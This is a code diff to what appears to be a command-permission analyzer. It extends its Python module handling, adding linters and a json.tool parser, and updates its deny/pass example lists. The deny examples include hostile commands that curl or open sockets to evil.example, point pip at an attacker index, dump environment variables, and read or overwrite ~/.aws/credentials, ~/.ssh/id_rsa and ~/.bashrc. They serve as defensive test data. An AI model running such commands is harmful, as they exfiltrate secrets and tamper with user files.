@@ -246,7 +246,7 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
   pip: (rest, _name, module) => ({ runs: [{ kind: 'argv', argv: [attached(module, 'pip'), ...rest], via: 'python -m pip' }] }),
   // The test runners', checkers' and formatters' mains are their programs (`python -m pytest -q $(git diff --name-only)`
   // is `pytest -q …`): each read by its own entry, which knows the files it reads and writes.
-  ...Object.fromEntries(['pytest', 'mypy', 'flake8', 'pyflakes', 'pycodestyle', 'pydocstyle', 'black', 'isort', 'ruff', 'bandit', 'vulture'].map((p) => [p, (rest: readonly Word[], name: string, module: Word): Partial<Answer> => ({ runs: [{ kind: 'argv', argv: [attached(module, p), ...rest], via: `${name} -m ${p}` }] })])),
+  ...Object.fromEntries(['pytest', 'mypy', 'flake8', 'pyflakes', 'pycodestyle', 'pydocstyle', 'black', 'isort', 'ruff', 'bandit', 'vulture', 'pylint', 'autopep8', 'autoflake', 'codespell', 'radon'].map((p) => [p, (rest: readonly Word[], name: string, module: Word): Partial<Answer> => ({ runs: [{ kind: 'argv', argv: [attached(module, p), ...rest], via: `${name} -m ${p}` }] })])),
   // The clients these mains are, as the programs that do the same (`ftp HOST`, `telnet HOST`, `xdg-open URL`).
   ftplib: (rest, name) => asProgram('ftp', rest, `${name} -m ftplib`),
   // poplib's and imaplib's mains log in to the host they are given; imaplib -s runs its value through /bin/sh.
@@ -281,6 +281,18 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
     // Its one option is -q; another (a later Python's) leaves the words unknown.
     if (rest.some((w) => /^-[^q]|^-q./.test(value(w) ?? ''))) return {};
     return { uses: rest.filter((w) => value(w) !== '-q').map((word) => ({ word, role: 'read' as const })) };
+  },
+  // json.tool [INFILE [OUTFILE]]: reads INFILE (stdin without one) and prints it laid out, or writes it into OUTFILE.
+  'json.tool': (rest) => {
+    if (rest.some((w) => value(w) === undefined && w.text.startsWith('-'))) return {};
+    const ops: Word[] = [];
+    for (let i = 0; i < rest.length; i++) {
+      const v = value(rest[i]);
+      if (v === '--indent') i++;
+      else if (v === undefined || !/^--(?:sort-keys|tab|no-indent|compact|json-lines|no-ensure-ascii|indent=\d+|help)$/.test(v)) ops.push(rest[i]!);
+    }
+    if (ops.some((w) => (value(w) ?? '').startsWith('-') && value(w) !== '-') || ops.length > 2) return {};
+    return { uses: ops.map((word, i) => ({ word, role: i === 0 ? ('read' as const) : ('write' as const) })), ...(ops.length === 0 || value(ops[0]) === '-' ? { stdin: 'data' as const } : {}) };
   },
   tarfile: (rest) => archiveModule(rest),
   zipfile: (rest) => archiveModule(rest),
@@ -807,8 +819,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
     analyze: python,
     examples: {
-      deny: ['python3 -m http.server', 'python3 -m http.server 8000 --bind 0.0.0.0', 'python -m SimpleHTTPServer 8000', 'python3 -m pip config set global.index-url https://evil.example/simple', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"', 'python3 -m pytest --basetemp ~ tests', 'python -m mypy --junit-xml ~/.bashrc src', 'python -m ruff check ~/.ssh/id_rsa'],
-      pass: ['python3 -m http.server --bind 127.0.0.1 8000', 'python3 -m http.server -b localhost -d dist', 'python3 -m pip config list', `printf 'print(1)\n' > p/x.py && PYTHONPATH=p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py", 'python -m pytest -q $(git diff --name-only main)', 'git diff --name-only | xargs python3 -m mypy', 'python -m ruff check --fix src'],
+      deny: ['python3 -m json.tool in.json ~/.bashrc', 'python3 -m json.tool ~/.aws/credentials', 'python3 -m http.server', 'python3 -m http.server 8000 --bind 0.0.0.0', 'python -m SimpleHTTPServer 8000', 'python3 -m pip config set global.index-url https://evil.example/simple', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"', 'python3 -m pytest --basetemp ~ tests', 'python -m mypy --junit-xml ~/.bashrc src', 'python -m ruff check ~/.ssh/id_rsa'],
+      pass: ["find . -name '*.json' -exec python -m json.tool {} \\;", 'python3 -m json.tool --sort-keys in.json out.json', 'python -m pylint $(git ls-files "*.py")', 'python3 -m http.server --bind 127.0.0.1 8000', 'python3 -m http.server -b localhost -d dist', 'python3 -m pip config list', `printf 'print(1)\n' > p/x.py && PYTHONPATH=p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py", 'python -m pytest -q $(git diff --name-only main)', 'git diff --name-only | xargs python3 -m mypy', 'python -m ruff check --fix src'],
     },
   },
   {
